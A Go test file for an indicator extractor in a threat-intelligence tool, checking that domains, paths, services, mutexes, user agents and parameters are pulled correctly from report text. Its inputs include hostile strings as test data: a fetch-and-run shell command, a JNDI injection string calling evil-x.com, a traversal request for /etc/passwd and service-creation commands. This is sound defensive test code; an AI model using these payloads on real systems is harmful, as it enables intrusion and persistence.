package extract_test

import (
	"testing"

	"github.com/portent-cti/portent/internal/intel"
)

func TestWhatMarkupSaysIsNotTheTextIsSetAside(t *testing.T) {
	const cited = " link to what is cited"
	checkAside(t, intel.Report, map[string]string{
		"text\n[1]: https://ref-one.com/a":                       "domain:ref-one.com" + cited + "; url:https://ref-one.com/a" + cited,
		"[C2]: http://evil-two.com/x":                            "",
		"[okta-corp[.]com](https://scan-two.com/r/1)":            "domain:scan-two.com" + cited + "; url:https://scan-two.com/r/1" + cited,
		"[" + digest + "](https://scan-two.com/x)":               "domain:scan-two.com" + cited + "; url:https://scan-two.com/x" + cited,
		"[evil-two.com](http://evil-two.com/x)":                  "",
		"~~old-one[.]com~~, ~~a-one.com and b-one.com~~ new.com": "domain:old-one.com struck out; domain:a-one.com struck out; domain:b-one.com struck out",
		"~~~~\nc-one.com\n~~~~ ~~x\nd-one.com~~ ~~ e-one.com ~~": "",
		"See https://vendor-one.com/report[the report]":          "domain:vendor-one.com" + cited + "; url:https://vendor-one.com/report" + cited,
		"See https://evil-two.com/report[evil-two.com]":          "",
		"= T\nJane <j@roe-one.org>\n\n// note-one.com\nevil.com": "email:j@roe-one.org comment or author of a text in AsciiDoc; domain:note-one.com comment or author of a text in AsciiDoc",
		"= T\n\nmail <j@roe-one.org>\n\nhttps://x-one.com/a//b":  "",
		"# T\nJane <j@roe-one.org>\n\n// note-one.com":           "",
	})
	checkAside(t, "", map[string]string{"See https://vendor-one.com/report[the report]": ""})
}

func TestAHostThatALineCutsBehindItsHyphenIsJoinedToItsScheme(t *testing.T) {
	holds(t, map[string]string{
		"https://mofa-\ngov-lk.drop-net.info/669b/x and": "domain:mofa-gov-lk.drop-net.info, url:https://mofa-gov-lk.drop-net.info/669b/x",
		"hxxps://pmd-offc.info-\nnavy[.]com/1/x":         "domain:pmd-offc.info-navy.com, url:https://pmd-offc.info-navy.com/1/x",
		"https://evil-\nand more":                        "",
		"https://evil-\nhttp://evil-two.com":             "domain:evil-two.com, url:http://evil-two.com",
		"site-navy\n-update-service[.]c\nom":             "",
		"runs evil[.]exe":                                "filename:evil.exe",
	})
}

func TestAFullPathOfWindowsIsNeverDropped(t *testing.T) {
	const one = " (path on one machine)"
	holds(t, map[string]string{
		`The PDB path is E:\Work\x64\Release\Loader.pdb.`:             `file:E:\Work\x64\Release\Loader.pdb` + one + ", filename:loader.pdb",
		`PDB: C:\Users\user\Desktop\Fast Loader\bin\FL.pdb`:           `file:C:\Users\user\Desktop\Fast Loader\bin\FL.pdb` + one + ", filename:fl.pdb",
		`to C:\ProgramData\evil.q7x, C:\ProgramData\Evil, D:\v1.2\x5`: `file:C:\ProgramData\evil.q7x` + one,
		`the file C:\Windows\Temp\svc_host.exe; and`:                  `file:C:\Windows\Temp\svc_host.exe` + one + ", filename:svc_host.exe",
	})
}

func TestServicesMutexesAndAgentsAreReadAsTheyAreAnnounced(t *testing.T) {
	holds(t, map[string]string{
		`service "WinDefendSvc"`:                                  "service:WinDefendSvc",
		`creates the service 'WinSvcUpd' (display name "Update")`: "service:WinSvcUpd",
		"Service name: WinDefendSvc2":                             "service:WinDefendSvc2",
		"sc create EvilSvc3 binPath= x":                           "service:EvilSvc3",
		"New-Service -Name EvilSvc4 -Binary x":                    "service:EvilSvc4",
		`schtasks /create /sc minute /tn "Updater Task" /tr x`:    "scheduled-task:Updater Task",
		`the service "PayPal", the service "Windows Update"`:      "",
		"Service name: unknown. The sc create function":           "",
		"mutex name: qazwsxedc":                                   "mutex:qazwsxedc",
		"Mutex : {A1B2}":                                          "mutex:{A1B2}",
		"mutex names are random. The mutex name is unknown":       "",
		`The UA "Mozilla/5.0 (Windows NT 6.1) LoaderX/1.2"`:       "user-agent:Mozilla/5.0 (Windows NT 6.1) LoaderX/1.2",
		`UA strings: "Mozilla/4.0 (x)", "WinHTTP loader/1.0"`:     "user-agent:Mozilla/4.0 (x), user-agent:WinHTTP loader/1.0",
		"user-agent string of 'okhttp/3.12.1-evil'":               "user-agent:okhttp/3.12.1-evil",
		"custom User-Agent (Nim httpclient/1.6.4)":                "user-agent:Nim httpclient/1.6.4",
		`GET / HTTP/1.1\r\nUser-Agent: LoaderBot/2.1\r\nA: b`:     "user-agent:LoaderBot/2.1",
		`UA: 12 victims, in UA "Kyiv", user agent (see 4/5)`:      "",
	})
}

func TestFragmentsInNotationsOfPosts(t *testing.T) {
	for _, c := range []said{
		{"", "https://<IP>/a/login.jsp/..;/b/read.jsp?fileName=/etc/passwd", "argument:fileName file:/a/login.jsp/..;/b/read.jsp input:/etc/passwd"},
		{"", "the path /a/login.jsp/..;/b/..;/c.jsp and more", "file:/a/login.jsp/..;/b/..;/c.jsp"},
		{"", `"GET /?q=%7B%7B7*7%7D%7D HTTP/1.1"`, "argument:q input:%7B%7B7*7%7D%7D"},
		{"", "POST /boaform/formLogin with username=admin&psd=Feefifofum", "argument:psd argument:username file:/boaform/formLogin"},
		{"", "POST /boaform/formLogin where a=b", "file:/boaform/formLogin"},
		{"", "${${lower:j}ndi:${lower:l}dap://evil-x.com/a}", "domain:evil-x.com input:${${lower:j}ndi:${lower:l}dap://evil-x.com/a}"},
		{"", "{x}http://evil-x.com/a", "domain:evil-x.com url:http://evil-x.com/a"},
		{"", "ports 5555, 6000-6002", "port:5555/tcp port:6000/tcp port:6001/tcp port:6002/tcp"},
		{"", "ports 1000-5000 in 2010-2014", ""},
		{"", "cd${IFS}/tmp;wget${IFS}http://45.142.212.100/b.sh;sh${IFS}b.sh", "filename:b.sh ipv4:45.142.212.100 url:http://45.142.212.100/b.sh"},
		{"", `{"params":{"_template":"../web.xml"}}`, ""},
		{"", "Уязвимость в файле /admin/upload.php: параметр filename не проверяется", "argument:filename file:/admin/upload.php"},
		{"", "通过参数 DBSTEP 可上传", "argument:DBSTEP"},
		{"", `漏洞存在于/index.php?s=/Index/\think\app/invoke接口，参数function可控`, "argument:function argument:s file:/index.php"},
		{"", "连接156.234.65.21的6666端口", "ipv4:156.234.65.21 port:6666/tcp"},
		{"", "10.5端口, 2024-6666端口", ""},
	} {
		c.check(t)
	}
}
